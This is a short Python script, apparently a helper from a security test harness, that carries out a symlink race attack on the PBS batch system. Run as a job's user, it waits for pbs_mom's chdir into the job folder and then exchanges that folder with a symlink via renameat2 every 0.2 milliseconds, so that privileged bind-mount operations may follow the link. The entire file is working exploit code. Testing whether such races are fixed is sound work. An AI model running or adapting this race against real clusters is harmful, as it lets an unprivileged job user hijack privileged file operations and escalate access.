"""The job owner's attack on bind sources: swap a job's folder with a symlink, over and over.

Run as the job's user (standard library only): ``python3 -I swapper.py``. Reads lines
"<starter pid> <folder> <symlink>" on stdin; once that starter's working directory is the
folder itself (pbs_mom's chdir is done), it exchanges the two names with
renameat2(RENAME_EXCHANGE) every ~0.2 ms until the starter is gone. "stop" ends it; it
then prints the number of exchanges made.
"""

import ctypes
import os
import select
import time

RENAME_EXCHANGE = 2
AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)


def exchange(a: bytes, b: bytes) -> bool:
    return libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0


def main() -> None:
    waiting, active, swaps, buffer = {}, {}, 0, b""
    while True:
        if select.select([0], [], [], 0)[0]:
            data = os.read(0, 4096)
            buffer += data
            while b"\n" in buffer:
                line, buffer = buffer.split(b"\n", 1)
                if line == b"stop":
                    print(swaps, flush=True)
                    return
                pid, folder, link = line.split()
                waiting[int(pid)] = (folder, link, os.stat(folder).st_ino)
            if not data:
                return
        for pid, (folder, link, ino) in list(waiting.items()):
            try:
                if os.stat(f"/proc/{pid}/cwd").st_ino == ino:
                    active[pid] = (folder, link)
                    del waiting[pid]
            except OSError:
                del waiting[pid]  # ended before it started
        for pid, (folder, link) in list(active.items()):
            if not os.path.exists(f"/proc/{pid}"):
                del active[pid]
            elif exchange(folder, link):
                swaps += 1
        time.sleep(0.0002)


if __name__ == "__main__":
    main()
